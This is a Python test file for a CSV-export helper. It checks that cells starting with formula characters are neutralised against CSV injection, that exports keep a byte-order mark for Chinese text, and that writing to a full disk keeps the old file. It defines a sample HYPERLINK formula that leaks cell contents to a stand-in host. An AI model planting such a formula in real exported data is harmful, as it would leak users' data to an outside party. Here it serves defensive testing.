"""Text written to CSV cannot become a spreadsheet formula (OWASP CSV injection)."""

import codecs
import csv
import errno
import io
import subprocess
import sys

import pytest

from layers.cli import run
from layers.io.spreadsheet import CSV_ENCODING, csv_text, safe_cell
from layers.store import open_project
from tests.conftest import REPO

HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A1,"点这里")'


@pytest.mark.parametrize("text", [HOSTILE, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_starts_are_neutralised(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["翠苑一区", "", "a=b", "1984", "10分钟生活圈"])
def test_plain_text_is_unchanged(text):
    assert safe_cell(text) == text


def test_audit_csv_of_a_hostile_community_name_opens_as_text(bundled_copy):
    project = open_project(bundled_copy)
    project.communities.update_attributes(project.communities.ids[0], {"name": HOSTILE})
    project.save()
    res = subprocess.run([sys.executable, "main.py", "audit", "--project", str(bundled_copy),
                          "--format", "csv"], cwd=REPO, capture_output=True, text=True,
                         timeout=120)
    assert res.returncode == 0, res.stderr
    rows = list(csv.reader(io.StringIO(res.stdout)))
    names = [row[0] for row in rows[1:]]
    assert "'" + HOSTILE in names
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)


def test_csv_text_neutralises_every_text_cell_and_keeps_numbers():
    text = csv_text([["name", "=1+1"], [HOSTILE, 3, None, -2.5, "-x", "\t@x"]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["name", "'=1+1"], ["'" + HOSTILE, "3", "", "-2.5", "'-x", "'\t@x"]]


def _hostile_project(path):
    project = open_project(path)
    project.communities.update_attributes(project.communities.ids[0], {"name": HOSTILE})
    project.save()
    return path


def test_audit_csv_file_opens_as_text_and_in_chinese(bundled_copy, tmp_path, capsys):
    out = tmp_path / "audit.csv"
    assert run(["audit", "--project", str(_hostile_project(bundled_copy)), "--format", "csv",
                "--out", str(out)]) == 0
    data = out.read_bytes()
    # Excel and WPS read a CSV without the byte-order mark as GBK: the names would be garbled
    assert data.startswith(codecs.BOM_UTF8)
    rows = list(csv.reader(io.StringIO(data.decode(CSV_ENCODING))))
    names = [row[0] for row in rows[1:]]
    assert "'" + HOSTILE in names and "翠苑一区" in names
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                   for row in rows for cell in row)


def test_audit_out_on_a_full_disk_leaves_the_old_file(bundled_copy, tmp_path, capsys,
                                                      monkeypatch):
    import layers.io.atomic

    out = tmp_path / "audit.json"
    out.write_text("[]", encoding="utf-8")

    def full_disk(path):
        raise OSError(errno.ENOSPC, "No space left on device", str(path))

    monkeypatch.setattr(layers.io.atomic, "_fsync", full_disk)
    assert run(["audit", "--project", str(bundled_copy), "--format", "json",
                "--out", str(out)]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert err == [f"error: No space left on device: {out}"]
    assert out.read_text(encoding="utf-8") == "[]"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["audit.json", "project.gpkg"]
